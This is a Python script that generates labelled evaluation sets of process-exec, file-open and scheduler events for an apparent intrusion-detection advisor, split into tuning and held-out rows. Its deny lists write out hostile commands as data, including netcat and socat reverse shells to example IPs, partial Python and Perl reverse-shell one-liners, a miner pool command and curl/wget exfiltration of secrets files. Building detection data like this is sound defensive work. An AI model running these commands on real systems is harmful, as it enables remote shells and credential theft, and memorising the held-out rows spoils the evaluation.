#!/usr/bin/env python3
"""Writes tests/eval/{exec,open,sched}.jsonl: the advisor's labelled event sets.

Every row below was written by hand from a published real-world pattern
(see docs/advisor.md, "The event sets"); this script only adds the
bookkeeping fields (pid, ppid, time, exe, the split) so the rows stay
short and the split rule is visible: in each label's list, every third
row (index % 3 == 2) is held out.
Run: python3 tests/eval/make-sets.py  (deterministic; commit its output)
"""
import json, os

here = os.path.dirname(os.path.abspath(__file__))
T0 = 1765152000.0

# Exec: (path, comm, parent_comm, uid, argv, file_uid, mode, age_s, dir_world_writable, why)
# comm is the process calling execve (its name before the exec), parent_comm its parent.
EXEC_ALLOW = [
    ("/tmp/go-build2913057446/b001/exe/main", "go", "bash", 1000, "/tmp/go-build2913057446/b001/exe/main -port 8080", 1000, "0755", 1, False, "go run builds into a private 0700 temp dir and runs the result"),
    ("/tmp/go-build118844210/b001/api.test", "go", "make", 1001, "/tmp/go-build118844210/b001/api.test -test.paniconexit0 -test.timeout=10m0s", 1001, "0755", 2, False, "go test runs the test binary it just built"),
    ("/tmp/cargo-installQ3aZ1x/release/build/serde-4f1c2d9e8a7b6c5d/build-script-build", "cargo", "bash", 1000, "/tmp/cargo-installQ3aZ1x/release/build/serde-4f1c2d9e8a7b6c5d/build-script-build", 1000, "0755", 3, False, "cargo install runs build scripts it compiled in its temp target dir"),
    ("/tmp/pip-build-env-k2j4h1x0/overlay/bin/cmake", "pip", "bash", 1000, "/tmp/pip-build-env-k2j4h1x0/overlay/bin/cmake --version", 1000, "0755", 20, False, "pip's isolated build environment runs cmake from its overlay"),
    ("/tmp/pytest-of-ci/pytest-12/test_cli_help0/bin/tool", "python3", "pytest", 1001, "/tmp/pytest-of-ci/pytest-12/test_cli_help0/bin/tool --help", 1001, "0755", 1, False, "a test run by pytest executes a helper from its tmp_path"),
    ("/tmp/tmpq8w1z3vk/venv/bin/python3", "tox", "bash", 1001, "/tmp/tmpq8w1z3vk/venv/bin/python3 -m pip install -e .", 1001, "0755", 4, False, "tox runs the python of the virtualenv it just created"),
    ("/tmp/nix-build-hello-2.12.1.drv-0/hello-2.12.1/configure", "bash", "nix-daemon", 30001, "./configure --prefix=/nix/store/q3x-hello-2.12.1", 30001, "0755", 5, False, "a nix build user runs configure in the nix build sandbox dir"),
    ("/tmp/cmake-build-release/CMakeFiles/CMakeScratch/TryCompile-Xc81Qa/cmTC_6f1e2", "cmake", "make", 1000, "/tmp/cmake-build-release/CMakeFiles/CMakeScratch/TryCompile-Xc81Qa/cmTC_6f1e2", 1000, "0755", 0, False, "cmake try_run executes the probe program it compiled"),
    ("/tmp/apt-key-gpghome.R8hY2kPq1Z/gpg.1.sh", "apt-key", "apt-get", 0, "/tmp/apt-key-gpghome.R8hY2kPq1Z/gpg.1.sh --quiet --batch --list-keys", 0, "0755", 0, False, "apt-key writes and runs its gpg wrapper in a mktemp dir"),
    ("/tmp/runner/work/_temp/9c1f6a2e-3b7d-4e2a-9f1b-2c3d4e5f6a7b.sh", "bash", "Runner.Worker", 1001, "/usr/bin/bash -e /tmp/runner/work/_temp/9c1f6a2e-3b7d-4e2a-9f1b-2c3d4e5f6a7b.sh", 1001, "0755", 0, False, "a self-hosted GitHub Actions runner runs a workflow step script"),
    ("/tmp/jenkins/workspace/app@tmp/durable-3f2a91c4/script.sh", "sh", "java", 1002, "sh -c /tmp/jenkins/workspace/app@tmp/durable-3f2a91c4/script.sh", 1002, "0755", 0, False, "a Jenkins agent's sh step (durable task) as the jenkins user"),
    ("/tmp/tmp.4KQ8g1Xz2b/rustup-init", "sh", "bash", 1000, "/tmp/tmp.4KQ8g1Xz2b/rustup-init -y", 1000, "0755", 2, False, "rustup's installer downloads rustup-init into a mktemp -d dir and runs it"),
    ("/tmp/cargo-target/debug/deps/parser-3a9f1c2b7e6d5a41", "cargo", "bash", 1000, "/tmp/cargo-target/debug/deps/parser-3a9f1c2b7e6d5a41", 1000, "0755", 1, False, "cargo test with CARGO_TARGET_DIR=/tmp/cargo-target"),
    ("/tmp/npm-1735-8f2a/node_modules/.bin/esbuild", "node", "npm", 1000, "/tmp/npm-1735-8f2a/node_modules/.bin/esbuild src/index.ts --bundle", 1000, "0755", 30, False, "an npm script runs esbuild from node_modules/.bin"),
    ("/tmp/gitlab-runner/builds/x1y2/0/group/app/ci/test.sh", "bash", "gitlab-runner", 998, "bash ci/test.sh", 998, "0755", 10, False, "a GitLab runner (shell executor) runs the repository's CI script"),
    ("/tmp/bazel-ci/execroot/_main/bazel-out/k8-fastbuild/bin/server/server_test", "linux-sandbox", "bazel", 1001, "/tmp/bazel-ci/execroot/_main/bazel-out/k8-fastbuild/bin/server/server_test", 1001, "0555", 2, False, "bazel test runs a test target through its sandbox"),
    ("/tmp/poetry-build-x0a1/.venv/bin/pytest", "poetry", "bash", 1000, "/tmp/poetry-build-x0a1/.venv/bin/pytest -q", 1000, "0755", 40, False, "poetry runs pytest from the project's temp virtualenv"),
    ("/tmp/makepkg/yay/src/yay/yay", "fakeroot", "makepkg", 1000, "/tmp/makepkg/yay/src/yay/yay --version", 1000, "0755", 5, False, "makepkg's check() runs the binary it built under fakeroot"),
    ("/tmp/tmp_build_ab12/conftest", "sh", "configure", 1000, "./conftest", 1000, "0755", 0, False, "autoconf's configure compiles and runs conftest"),
    ("/tmp/ccache-test/test/run.sh", "bash", "ctest", 1000, "/tmp/ccache-test/test/run.sh", 1000, "0755", 60, False, "ctest runs a project's test script"),
    ("/tmp/mvn-build-91/target/native/app-runner", "java", "mvn", 1001, "/tmp/mvn-build-91/target/native/app-runner --smoke-test", 1001, "0755", 12, False, "maven's verify phase runs the native image it built"),
    ("/tmp/dotnet-build-5c/bin/Debug/net8.0/Api.Tests", "dotnet", "bash", 1000, "/tmp/dotnet-build-5c/bin/Debug/net8.0/Api.Tests", 1000, "0755", 3, False, "dotnet test runs the test host it built"),
    ("/tmp/ghc12345_0/ghc_3.exe", "ghc", "cabal", 1000, "/tmp/ghc12345_0/ghc_3.exe", 1000, "0755", 0, False, "GHC runs a Template Haskell/iserv helper it emitted in its temp dir"),
    ("/tmp/tmpxft_000012ab_00000000-1_probe", "nvcc", "make", 1000, "/tmp/tmpxft_000012ab_00000000-1_probe", 1000, "0755", 0, True, "nvcc-style probe binaries are built and run by the compiler driver"),
    ("/tmp/build-deb/debian/rules", "dpkg-buildpacka", "bash", 1000, "debian/rules build", 1000, "0755", 50, False, "dpkg-buildpackage runs debian/rules in the unpacked source"),
    ("/tmp/kernel-build/scripts/basic/fixdep", "make", "make", 1000, "scripts/basic/fixdep scripts/mod/.empty.o.d scripts/mod/empty.o", 1000, "0755", 30, False, "a kernel build runs its host tools"),
    ("/tmp/packer-provisioner-shell-1735812345/script.sh", "sh", "sshd", 1000, "chmod +x /tmp/packer-provisioner-shell-1735812345/script.sh; /tmp/packer-provisioner-shell-1735812345/script.sh", 1000, "0755", 1, False, "packer's shell provisioner uploads and runs its script over ssh"),
    ("/tmp/terraform_2a1f/terraform-provider-null_v3.2.2_x5", "terraform", "bash", 1000, "/tmp/terraform_2a1f/terraform-provider-null_v3.2.2_x5", 1000, "0755", 60, False, "terraform starts a provider plugin from its plugin cache"),
    ("/tmp/vagrant-shell", "bash", "sshd", 1000, "bash -l /tmp/vagrant-shell", 1000, "0755", 1, True, "vagrant's shell provisioner uploads its script to /tmp/vagrant-shell and runs it"),
    ("/tmp/zig-cache/o/4f2d/test", "zig", "bash", 1000, "/tmp/zig-cache/o/4f2d/test --listen=-", 1000, "0755", 1, False, "zig build test runs the test binary it built"),
    ("/tmp/stack-1f2a/app-exe", "stack", "bash", 1000, "/tmp/stack-1f2a/app-exe", 1000, "0755", 2, False, "stack exec runs the app it built"),
    ("/tmp/swift-build/.build/debug/AppPackageTests.xctest", "swift-test", "swift", 1000, "/tmp/swift-build/.build/debug/AppPackageTests.xctest", 1000, "0755", 5, False, "swift test runs its xctest bundle"),
    ("/tmp/rpmbuild/BUILD/app-1.2/configure", "sh", "rpmbuild", 1000, "./configure --prefix=/usr", 1000, "0755", 20, False, "rpmbuild's %build runs configure"),
    ("/tmp/tmp.vB2c9QxE1r/get_helm.sh", "bash", "bash", 1000, "bash /tmp/tmp.vB2c9QxE1r/get_helm.sh", 1000, "0700", 3, False, "helm's installer script from a mktemp dir, run by the user"),
    ("/tmp/tmp8c2r_k1f/node", "pre-commit", "git", 1000, "/tmp/tmp8c2r_k1f/node --version", 1000, "0755", 40, False, "pre-commit bootstraps a node environment for a hook"),
    ("/tmp/ci-4412/tools/protoc", "make", "bash", 1001, "tools/protoc --go_out=. api.proto", 1001, "0755", 300, False, "a CI build runs the protoc it vendored"),
    ("/tmp/tmpk3l9/uv-build/bin/maturin", "uv", "bash", 1000, "/tmp/tmpk3l9/uv-build/bin/maturin pep517 build-wheel", 1000, "0755", 10, False, "uv builds a wheel with maturin in an isolated env"),
    ("/tmp/ansible-tmp-1765151990.12-4412-9921/AnsiballZ_setup.py", "sh", "sshd", 1000, "/usr/bin/python3 /tmp/ansible-tmp-1765151990.12-4412-9921/AnsiballZ_setup.py", 1000, "0700", 1, False, "ansible's remote module, run over ssh by the deploy user"),
    ("/tmp/mkosi-workspace/root/usr/bin/systemd-nspawn-probe", "mkosi", "bash", 0, "/tmp/mkosi-workspace/root/usr/bin/systemd-nspawn-probe", 0, "0755", 4, False, "mkosi image build runs a tool inside its workspace"),
    ("/tmp/test-env-8821/bin/php", "composer", "bash", 1000, "/tmp/test-env-8821/bin/php vendor/bin/phpunit", 1000, "0755", 100, False, "composer runs phpunit with the php of a test environment"),
    ("/tmp/flutter_tools.aB3c/flutter_test_listener/test_app", "dart", "flutter", 1000, "/tmp/flutter_tools.aB3c/flutter_test_listener/test_app", 1000, "0755", 2, False, "flutter test runs its test listener"),
    ("/tmp/opam-build-412/_build/default/test/test_main.exe", "dune", "opam", 1000, "./test/test_main.exe", 1000, "0755", 1, False, "dune runs an OCaml test executable during opam's build"),
]
EXEC_DENY = [
    ("/tmp/kdevtmpfsi", "sh", "redis-server", 999, "/tmp/kdevtmpfsi", 999, "0777", 5, True, "Kinsing: the redis user fetched and starts the kdevtmpfsi miner"),
    ("/tmp/xmrig", "sh", "sh", 33, "/tmp/xmrig -o pool.supportxmr.com:443 -u 4A8x... --donate-level 1", 33, "0755", 10, True, "XMRig miner with a pool URL, run by www-data"),
    ("/tmp/.X11-unix/.rsync/c/tsm", "bash", "bash", 1000, "/tmp/.X11-unix/.rsync/c/tsm -t 515 -f 1 -s 12 -S 8 -p 0 -d 1 p ip", 1000, "0755", 60, False, "Outlaw/dota botnet ssh scanner hidden in a dot dir under .X11-unix"),
    ("/tmp/.ICE-unix/.x/sshd", "sh", "cron", 0, "/tmp/.ICE-unix/.x/sshd", 0, "0755", 3600, False, "a fake sshd in a hidden dir in .ICE-unix, started by cron"),
    ("/tmp/Mozi.m", "sh", "httpd", 0, "/tmp/Mozi.m dr.mips", 0, "0777", 2, True, "Mozi IoT botnet payload fetched by a router's web server"),
    ("/tmp/x86_64", "sh", "sh", 33, "./x86_64 x86.selfrep", 33, "0777", 1, True, "Mirai loader (bins.sh) runs its per-architecture payload"),
    ("/tmp/mips", "busybox", "sh", 0, "./mips telnet.loader", 0, "0777", 1, True, "Mirai-style payload named after its CPU architecture"),
    ("/tmp/sysupdate", "bash", "bash", 0, "/tmp/sysupdate -c /tmp/config.json", 0, "0777", 30, True, "WatchDog/TeamTNT miner named sysupdate, config in /tmp"),
    ("/tmp/networkservice", "sh", "sh", 0, "/tmp/networkservice", 0, "0777", 30, True, "WatchDog's scanner/spreader named networkservice"),
    ("/tmp/kworkerds", "sh", "cron", 0, "/tmp/kworkerds", 0, "0755", 120, True, "a miner disguised as a kernel worker thread name, started from cron"),
    ("/tmp/nc", "sh", "php-fpm7.4", 33, "/tmp/nc 203.0.113.7 4444 -e /bin/sh", 33, "0755", 5, True, "a static netcat reverse shell launched from PHP"),
    ("/tmp/socat", "sh", "apache2", 33, "/tmp/socat exec:'bash -li',pty,stderr tcp:198.51.100.23:9001", 33, "0755", 8, True, "socat reverse shell from the Apache user"),
    ("/tmp/shell.elf", "sh", "java", 1003, "/tmp/shell.elf", 1003, "0777", 3, True, "an msfvenom-style payload dropped by an exploited Java app"),
    ("/tmp/linpeas.sh", "sh", "sh", 33, "sh /tmp/linpeas.sh -a", 33, "0755", 20, True, "privilege-escalation recon script run by www-data"),
    ("/tmp/pspy64", "sh", "python3", 33, "/tmp/pspy64 -pf -i 1000", 33, "0755", 15, True, "process snooping tool run from a web shell"),
    ("/tmp/chisel", "sh", "tomcat9", 997, "/tmp/chisel client 203.0.113.9:8000 R:socks", 997, "0755", 12, True, "chisel tunnel started from Tomcat's user"),
    ("/tmp/.log/kthreaddk", "sh", "java", 1003, "/tmp/.log/kthreaddk", 1003, "0777", 6, False, "Log4Shell campaign: miner named like a kernel thread in a hidden dir"),
    ("/tmp/lx", "bash", "java", 1004, "/tmp/lx", 1004, "0777", 2, True, "Confluence OGNL exploit drops a two-letter payload"),
    ("/tmp/sora.x86", "sh", "sh", 0, "/tmp/sora.x86 exploit.huawei", 0, "0777", 1, True, "Sora (Mirai variant) payload"),
    ("/tmp/.kaiten", "sh", "sh", 33, "/tmp/.kaiten irc.example.net 6667", 33, "0755", 4, True, "Kaiten/Tsunami IRC bot, hidden file in /tmp"),
    ("/tmp/dbused", "sh", "redis-server", 999, "/tmp/dbused -c -d", 999, "0755", 9, True, "a miner named like a D-Bus daemon, started through Redis"),
    ("/tmp/bash", "sh", "sh", 0, "/tmp/bash -p", 0, "4755", 300, True, "a setuid root copy of bash in /tmp (backdoor, run with -p)"),
    ("/tmp/ls", "bash", "sshd", 0, "/tmp/ls -la", 1000, "0755", 7200, True, "a renamed system binary in /tmp owned by another user, run as root"),
    ("/tmp/ps", "bash", "bash", 0, "/tmp/ps aux", 1000, "0755", 86400, True, "a trojaned ps planted in /tmp by a non-root user"),
    ("/tmp/.systemd-logind", "sh", "cron", 0, "/tmp/.systemd-logind", 0, "0755", 600, True, "a hidden file named like a system daemon"),
    ("/tmp/python", "sh", "php-fpm8.2", 33, "/tmp/python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",443))'", 33, "0755", 4, True, "a copied interpreter running a reverse-shell one-liner from PHP"),
    ("/tmp/perl", "sh", "apache2", 33, "/tmp/perl -e 'use Socket;$i=\"198.51.100.2\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'", 33, "0755", 2, True, "perl reverse shell one-liner via a copied perl"),
    ("/tmp/.X25-unix/.rsync/a/kswapd0", "sh", "bash", 1000, "./kswapd0", 1000, "0755", 100, False, "Outlaw's miner named kswapd0 in a fake X11 socket dir"),
    ("/tmp/update.sh", "sh", "sh", 33, "sh /tmp/update.sh", 33, "0777", 3, True, "a dropper script run by www-data (curl ... > /tmp/update.sh; sh)"),
    ("/tmp/ldr.sh", "bash", "bash", 999, "bash /tmp/ldr.sh", 999, "0777", 1, True, "TeamTNT-style loader script run from the redis account"),
    ("/tmp/.ssh/authorized_keys.sh", "sh", "cron", 1000, "sh /tmp/.ssh/authorized_keys.sh", 1000, "0755", 600, False, "persistence script hidden in a fake .ssh dir under /tmp"),
    ("/tmp/gsocket/gs-netcat", "sh", "sh", 33, "/tmp/gsocket/gs-netcat -s secretXYZ -l -i", 33, "0755", 6, False, "gsocket backdoor listener run by www-data"),
    ("/tmp/frpc", "sh", "node", 1000, "/tmp/frpc -c /tmp/frpc.ini", 1000, "0755", 9, True, "frp reverse proxy client dropped by an exploited node app"),
    ("/tmp/ngrok", "sh", "php-fpm7.4", 33, "/tmp/ngrok tcp 22", 33, "0755", 30, True, "exposing ssh through ngrok from a web shell"),
    ("/tmp/.cache/.ntpd", "sh", "bash", 1000, "/tmp/.cache/.ntpd", 1000, "0755", 50, False, "hidden file named like ntpd in a hidden dir"),
    ("/tmp/a", "sh", "wget", 33, "/tmp/a", 33, "0777", 0, True, "a one-letter payload executed right after download by www-data"),
    ("/tmp/systemd-private-x/tmp/.p", "sh", "sh", 998, "/tmp/systemd-private-x/tmp/.p", 998, "0777", 2, False, "hidden payload inside a service's private tmp"),
    ("/tmp/dirtypipe", "sh", "sh", 1000, "/tmp/dirtypipe /usr/bin/su", 1000, "0755", 40, True, "a local root exploit (Dirty Pipe) aimed at su"),
    ("/tmp/pwnkit", "bash", "bash", 33, "/tmp/pwnkit", 33, "0755", 20, True, "PwnKit (CVE-2021-4034) exploit run by www-data"),
    ("/tmp/.font-unix/watchdogs", "sh", "cron", 0, "/tmp/.font-unix/watchdogs", 0, "0755", 3600, False, "miner watchdog hidden in .font-unix, started by cron"),
    ("/tmp/zzh", "sh", "sh", 0, "/tmp/zzh 198.51.100.0/24 22", 0, "0755", 70, True, "an ssh brute-force scanner (zzh) against a subnet"),
    ("/tmp/.mysqld", "sh", "mysqld", 27, "/tmp/.mysqld", 27, "0755", 5, True, "a hidden binary named like mysqld, started by the database server"),
]

# Open: (file name as file_open records it, comm, uid, why)
OPEN_ALLOW = [
    ("secrets.enc.yaml", "sops", 1000, "sops decrypts the encrypted secrets file"),
    ("secret.pem", "nginx", 0, "nginx's master reads its TLS key at start/reload (root)"),
    ("secrets.yml", "ansible-playboo", 1000, "ansible-playbook loads its vaulted variables"),
    ("secret.gpg", "gpg", 1000, "gpg decrypting the user's encrypted file"),
    ("secrets.tfvars", "terraform", 1000, "terraform reads its variable file"),
    ("secrets.toml", "streamlit", 1000, "streamlit loads .streamlit/secrets.toml"),
    ("secret.hcl", "vault", 997, "the vault server reads its config as the vault user"),
    ("secrets.yaml", "kubectl", 1000, "kubectl apply -f secrets.yaml by an operator"),
    ("secret.key", "postgres", 112, "postgres opening its ssl_key_file"),
    ("secret_key_base", "ruby", 1001, "a Rails app reading its secret_key_base as the app user"),
    ("secrets.json", "dotnet", 1000, "a .NET app loading user secrets"),
    ("secret.cred", "systemd", 0, "systemd's LoadCredential= reads a credential for a service"),
    ("secrets.env", "docker-compose", 1000, "docker compose reads the env_file of a service"),
    ("secret-token", "kubelet", 0, "kubelet mounting a service account token"),
    ("secrets.yml", "ansible-vault", 1000, "ansible-vault edit on the vault file"),
    ("secret.jks", "java", 998, "a Java service opening its keystore as its own user"),
    ("secrets.json", "restic", 0, "the nightly restic backup (root) reads every file"),
    ("secret.asc", "pass", 1000, "the pass password manager decrypts an entry"),
    ("secret_access_key", "aws", 1000, "the aws CLI reads a configured credential file"),
    ("secrets.properties", "gradle", 1001, "gradle reads signing properties in a CI build"),
    ("secret.key", "haproxy", 0, "haproxy loading its certificate key at start"),
    ("secrets.enc", "age", 1000, "age decrypting the user's file"),
    ("secrets.yaml", "helm", 1000, "helm install -f secrets.yaml"),
]
OPEN_DENY = [
    ("secrets.json", "curl", 33, "curl as www-data reading a secrets file: exfiltration (curl -F @secrets.json)"),
    ("secret.key", "nc", 33, "netcat as www-data sending a key"),
    ("secrets.env", "cat", 33, "cat from the web-server user: a web shell dumping credentials"),
    ("secrets.yml", "tar", 33, "tar as www-data packing secrets"),
    ("secret.pem", "base64", 33, "base64-encoding a private key from the web user"),
    ("secrets.json", "xmrig", 1000, "a miner has no business with secrets"),
    ("secret_token", "sh", 33, "a shell of the web server user"),
    ("secrets.env", "grep", 33, "grep for passwords by the web server user"),
    ("secret.key", "wget", 1000, "wget --post-file of a key"),
    ("secrets.yaml", "socat", 1000, "socat streaming a file to the network"),
    ("secret.pem", "zip", 33, "zip of keys by www-data"),
    ("secrets.json", "perl", 33, "perl from the web user reading credentials"),
    ("secret.gpg", "kdevtmpfsi", 999, "the Kinsing miner reading a secret file"),
    ("secrets.tfvars", "scp", 33, "scp from www-data copying terraform secrets out"),
    ("secret_access_key", "python3", 33, "python3 as www-data (typical web shell spawn) reading cloud keys"),
    ("secret.key", "strings", 33, "strings by the web user scraping a key"),
    ("secrets.yml", "bash", 999, "an interactive shell of the redis service account"),
    ("secret.jks", "nc", 1003, "netcat from a Java service account"),
    ("secrets.env", "linpeas.sh", 33, "privilege-escalation script harvesting secrets"),
    ("secret.cred", "dd", 33, "dd copying a credential from the web user"),
    ("secrets.json", "rclone", 33, "rclone (cloud upload tool) as www-data: exfiltration"),
]

# Sched: (comm, uid, runtime_ms, wall_ms, switches, involuntary, label, why)
# cpu_pct = runtime/wall; involuntary_pct = involuntary*100/switches.
SCHED_INTER = [
    ("bash", 1000, 120, 600000, 900, 3, "shell waiting for input"),
    ("vim", 1000, 450, 900000, 5200, 20, "editor: short bursts per key press"),
    ("sshd", 0, 300, 1200000, 4100, 10, "ssh session relaying keystrokes"),
    ("Xorg", 0, 8200, 3600000, 91000, 900, "display server: many short wakeups"),
    ("gnome-shell", 1000, 25000, 3600000, 180000, 2500, "desktop compositor redrawing on input"),
    ("tmux: server", 1000, 900, 1800000, 12000, 40, "terminal multiplexer"),
    ("pipewire", 1000, 3100, 3600000, 250000, 300, "audio server: periodic short work"),
    ("nginx", 33, 2400, 3600000, 60000, 400, "web server worker waiting on sockets"),
    ("postgres", 112, 1800, 3600000, 22000, 150, "database backend mostly idle between queries"),
    ("less", 1000, 30, 300000, 140, 0, "pager"),
    ("htop", 1000, 2000, 600000, 600, 30, "refreshes every 1.5 s"),
    ("firefox", 1000, 61000, 1800000, 410000, 9000, "browser main thread: UI events"),
    ("code", 1000, 40000, 3600000, 300000, 5000, "editor UI process"),
    ("systemd-journal", 0, 1500, 3600000, 30000, 50, "journal: wakes on log messages"),
    ("mutt", 1000, 80, 600000, 300, 2, "mail reader"),
    ("zsh", 1000, 200, 900000, 1500, 10, "interactive shell"),
    ("python3", 1000, 600, 1200000, 8000, 60, "a Python web app waiting on requests"),
    ("node", 1000, 4000, 1800000, 50000, 700, "a node server handling requests"),
    ("redis-server", 999, 3000, 3600000, 360000, 800, "redis event loop, idle most of the time"),
    ("containerd", 0, 5000, 3600000, 70000, 500, "daemon: short bursts"),
    ("chrome", 1000, 52000, 2400000, 380000, 8000, "browser renderer handling input and frames"),
]
SCHED_BATCH = [
    ("cc1", 1000, 4800, 5000, 40, 36, "compiler pass: CPU-bound"),
    ("rustc", 1000, 118000, 121000, 500, 460, "compiling a crate"),
    ("xz", 1000, 58000, 58500, 120, 115, "compression"),
    ("ffmpeg", 1000, 290000, 300000, 2600, 2400, "video encoding"),
    ("gzip", 0, 9000, 9100, 30, 28, "log rotation compression"),
    ("xmrig", 1000, 3500000, 3600000, 9000, 8800, "miner: always runnable"),
    ("python3", 1001, 700000, 720000, 3000, 2900, "numpy training loop"),
    ("java", 1001, 1300000, 1400000, 25000, 21000, "batch job (Spark executor)"),
    ("bash", 1000, 95000, 96000, 400, 390, "a shell busy-loop script"),
    ("make", 1000, 30000, 40000, 800, 600, "make running its own heavy recipe work"),
    ("gcc", 1000, 2000, 2100, 20, 16, "compiler driver doing LTO in-process"),
    ("sort", 0, 42000, 43000, 150, 140, "sorting a big file"),
    ("kworkerds", 0, 3400000, 3500000, 7000, 6900, "a miner named like a kernel worker"),
    ("blender", 1000, 1700000, 1800000, 20000, 18500, "rendering frames"),
    ("ld.lld", 1000, 14000, 14500, 60, 50, "linking"),
    ("pigz", 0, 220000, 230000, 900, 850, "parallel gzip"),
    ("rsync", 0, 30000, 42000, 600, 420, "checksumming a large tree"),
    ("stress-ng", 0, 600000, 600000, 3000, 3000, "CPU stress test"),
    ("clang", 1000, 9000, 9300, 45, 40, "compiling a translation unit"),
    ("openssl", 1000, 20000, 20100, 50, 48, "openssl speed benchmark"),
    ("node", 1000, 250000, 260000, 4000, 3700, "webpack production build"),
]


def split_of(i):
    return "heldout" if i % 3 == 2 else "tune"


def write(name, rows):
    with open(os.path.join(here, name), "w") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    return len(rows)


def exec_rows():
    rows = []
    n = 0
    for label, items in (("allow", EXEC_ALLOW), ("deny", EXEC_DENY)):
        for i, (path, comm, pcomm, uid, argv, fuid, mode, age, dww, why) in enumerate(items):
            n += 1
            rows.append({
                "pid": 4000 + 7 * n, "uid": uid, "comm": comm, "time": "%.3f" % (T0 + 11 * n),
                "path": path, "exe": path.rsplit("/", 1)[-1], "ppid": 3000 + 5 * n, "parent_comm": pcomm,
                "argv": argv, "file_uid": fuid, "file_mode": mode, "file_age_s": age, "dir_world_writable": dww,
                "label": label, "split": split_of(i), "why": why,
            })
    return rows


def open_rows():
    rows = []
    n = 0
    for label, items in (("allow", OPEN_ALLOW), ("deny", OPEN_DENY)):
        for i, (path, comm, uid, why) in enumerate(items):
            n += 1
            rows.append({"pid": 5000 + 13 * n, "uid": uid, "comm": comm, "time": "%.3f" % (T0 + 7 * n), "path": path,
                         "label": label, "split": split_of(i), "why": why})
    return rows


def sched_rows():
    rows = []
    n = 0
    for label, items in (("interactive", SCHED_INTER), ("batch", SCHED_BATCH)):
        for i, (comm, uid, rt, wall, sw, inv, why) in enumerate(items):
            n += 1
            rows.append({
                "pid": 6000 + 3 * n, "uid": uid, "comm": comm, "time": "%.3f" % (T0 + 5 * n),
                "runtime_ms": rt, "switches": sw, "involuntary": inv, "involuntary_pct": inv * 100 // sw,
                "cpu_pct": round(min(100.0, rt * 100.0 / wall)),
                "label": label, "split": split_of(i), "why": why,
            })
    return rows


if __name__ == "__main__":
    for name, rows in (("exec.jsonl", exec_rows()), ("open.jsonl", open_rows()), ("sched.jsonl", sched_rows())):
        n = write(name, rows)
        h = sum(r["split"] == "heldout" for r in rows)
        print("%s: %d events, %d held out" % (name, n, h))
